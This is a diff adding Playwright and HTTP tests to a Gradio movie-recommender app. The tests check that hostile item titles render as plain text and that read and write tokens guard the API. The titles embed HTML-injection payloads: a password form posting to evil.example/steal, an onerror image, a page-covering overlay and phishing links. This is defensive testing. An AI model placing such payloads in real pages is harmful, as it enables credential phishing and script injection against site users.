@@ -9,6 +9,7 @@ without it unless KGREC_REQUIRE_BROWSER=1. Playwright's own browser downloads ar
 """
 from __future__ import annotations
 
+import json
 import os
 import re
 import socket
@@ -240,3 +241,140 @@ def test_the_api_through_gradio_client(app_url: str, tmp_path: Path) -> None:
 
     text, evaluation, curve = client.predict(api_name="/model_info")
     assert "Model:** default" in text and Path(curve).is_file()
+
+
+# --- nothing but text from the data ------------------------------------------------------------
+
+HOSTILE_TITLES = [
+    '<form action="http://evil.example/steal"><input type="password" placeholder="Your password"></form> Form Film',
+    '<img src="http://evil.example/pixel.png" onerror="document.title=\'owned\'"> Pixel Film',
+    '<div id="kgrec-overlay" style="position:fixed;inset:0;z-index:9999;background:#c00">Overlay Film</div>',
+    "[Click here](http://evil.example/phish) and http://evil.example/bare and www.evil.example Link Film",
+    "$\\undefinedmacro{x}$ and $$x^2$$ Math Film",
+]
+MARKDOWN = ["#explanations", "#path-text", "#node-text", "#add-report"]
+"""Where the titles reach Markdown: nothing but text elements may be there."""
+ACTIVE_TAGS = ["form", "input", "img", "a", "iframe", "script", "style", "button", "svg", "video", "audio", "object",
+               "embed", "textarea", "select", "math"]
+FROM_DATA = ("[src*=evil], [href*=evil], [action*=evil], [onerror], #kgrec-overlay, [style*=fixed], .katex, "
+             "input[type=password]:not(#write-token input)")
+"""Anywhere on the page (tables included): what only the hostile titles' markup could have made."""
+
+
+def _elements_from_data(page) -> dict[str, list[str]]:  # type: ignore[no-untyped-def]
+    return page.evaluate("""([markdown, tags, fromData]) => {
+        const found = {};
+        for (const selector of markdown) {
+            const root = document.querySelector(selector);
+            const active = root ? [...root.querySelectorAll(tags.join(','))] : [];
+            if (active.length) found[selector] = active.map(e => e.outerHTML.slice(0, 120));
+        }
+        const anywhere = [...document.querySelectorAll(fromData)];
+        if (anywhere.length) found['page'] = anywhere.map(e => e.outerHTML.slice(0, 120));
+        return found;
+    }""", [MARKDOWN, ACTIVE_TAGS, FROM_DATA])
+
+
+def test_hostile_titles_are_shown_as_text(page, app_url: str) -> None:  # type: ignore[no-untyped-def]
+    from gradio_client import Client
+
+    client = Client(app_url, verbose=False)
+    for number, title in enumerate(HOSTILE_TITLES):
+        added = client.predict(title=title, item_id=f"hostile-{number}", description="Jedi knights, in a hostile title.",
+                               links=["IN_GENRE|genre:Sci-Fi", "IN_GENRE|genre:Action"], api_name="/add_item")
+        assert added.startswith("**Added**"), added
+
+    _pick(page, "liked", "star wars", "Star Wars (50)")
+    page.locator("#only-new input").check()
+    page.locator("#recommend-button").click()
+    for title in HOSTILE_TITLES:
+        expect(page.locator("#recommendations")).to_contain_text(title)
+        expect(page.locator("#explanations")).to_contain_text(title)
+    _tab(page, "Explain")
+    expect(page.locator("#path-text")).to_contain_text("why it was recommended")
+    expect(page.locator("#path-image img")).to_be_visible()
+    _tab(page, "Explore")
+    page.locator("#explore-query textarea, #explore-query input").first.fill("Film")
+    page.locator("#explore-search").click()
+    expect(page.locator("#explore-results")).to_contain_text("Overlay Film")
+    page.locator("#explore-results [role=gridcell]").filter(has_text="Overlay Film").first.click()
+    expect(page.locator("#node-text")).to_contain_text(HOSTILE_TITLES[2])
+    expect(page.locator("#node-image img")).to_be_visible()
+
+    assert _elements_from_data(page) == {}
+    assert page.title() != "owned" and page.locator("input[type=password]:visible").count() == 0
+    # The overlay did not cover the page: the tab buttons still take clicks.
+    _tab(page, "Recommend")
+    expect(page.locator("#recommend-button")).to_be_visible()
+
+
+def test_the_api_schema_lists_no_ids(app_url: str) -> None:
+    import httpx
+
+    info = httpx.get(f"{app_url}/gradio_api/info", timeout=30).json()
+    config = httpx.get(f"{app_url}/config", timeout=30).text
+    enums = [p for endpoint in info["named_endpoints"].values() for p in endpoint["parameters"]
+             if "enum" in json.dumps(p.get("type", {})) and json.loads(json.dumps(p["type"])).get("enum",
+                 p["type"].get("items", {}).get("enum") if isinstance(p["type"], dict) else None)]
+    named = {p["parameter_name"] for p in enums}
+    assert not named & {"user_id", "liked_ids", "item_id"}, named
+    assert '"Star Wars (50)"' not in config and '"Return of the Jedi (181)"' not in config
+
+
+# --- access control over HTTP ----------------------------------------------------------------------
+
+READ_TOKEN = "a-read-token-for-the-tests"
+WRITE_TOKEN = "a-write-token-for-the-tests"
+
+
+@pytest.fixture(scope="module")
+def guarded_url(ml100k_catalog: Catalog, data_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """The app with KGREC_API_TOKEN and KGREC_READ_TOKEN set."""
+    from app.service import RecommendationService
+    from app.ui.actions import UiActions
+    from app.ui.layout import build_app, launch
+
+    shared = trained_home(ml100k_catalog, tmp_path_factory.mktemp("ui"), data_settings.home / "cache")
+    home = copy_home(shared, tmp_path_factory.mktemp("guarded") / "home")
+    service = RecommendationService(settings_for(home).with_(api_token=WRITE_TOKEN, read_token=READ_TOKEN))
+    app = build_app(UiActions(service))
+    _, url = launch(app, "127.0.0.1", _free_port(), block=False, quiet=True)
+    try:
+        yield url.rstrip("/")
+    finally:
+        app.close()
+        service.close()
+
+
+def test_with_tokens_reads_need_a_login_and_writes_the_write_token(guarded_url: str, tmp_path: Path) -> None:
+    import httpx
+    from gradio_client import Client, handle_file
+
+    for path in ("/gradio_api/info", "/config"):
+        assert httpx.get(guarded_url + path, timeout=30).status_code == 401
+    assert httpx.post(f"{guarded_url}/gradio_api/call/recommend_json", json={"data": [{"liked": ["50"]}]},
+                      timeout=30).status_code == 401
+    with pytest.raises(Exception):  # noqa: B017 - gradio_client's own error for a refused login
+        Client(guarded_url, verbose=False, auth=("anyone", "not-the-token"))
+
+    reader = Client(guarded_url, verbose=False, auth=("reader", READ_TOKEN))
+    assert len(reader.predict(request={"id": 1, "liked": ["50"], "k": 2}, api_name="/recommend_json")["items"]) == 2
+    items = tmp_path / "items.csv"
+    items.write_text("item_id,title\nguarded-1,Needs the write token\n")
+    interactions = tmp_path / "interactions.csv"
+    interactions.write_text("user_id,item_id\n")
+    for token, message in (("", "needs the API token"), (READ_TOKEN, "the API token is wrong")):
+        refused = reader.predict(title="Anonymous", item_id="guarded-anon", token=token, api_name="/add_item")
+        assert refused.startswith("**The item was not added.**") and message in refused
+        report, _ = reader.predict(paths=[handle_file(str(items)), handle_file(str(interactions))], token=token,
+                                   api_name="/upload_catalog")
+        assert report.startswith("**Nothing was ingested.**") and message in report
+    found = reader.predict(query_text="write token", api_name="/search_items")
+    assert found["data"] == []  # nothing was written
+
+    assert reader.predict(title="With the token", item_id="guarded-2", token=WRITE_TOKEN,
+                          api_name="/add_item").startswith("**Added**")
+    report, _ = reader.predict(paths=[handle_file(str(items)), handle_file(str(interactions))], token=WRITE_TOKEN,
+                               api_name="/upload_catalog")
+    assert report.startswith("**Ingested**"), report
+    assert {row[0] for row in reader.predict(query_text="token", api_name="/search_items")["data"]} == {"guarded-1", "guarded-2"}
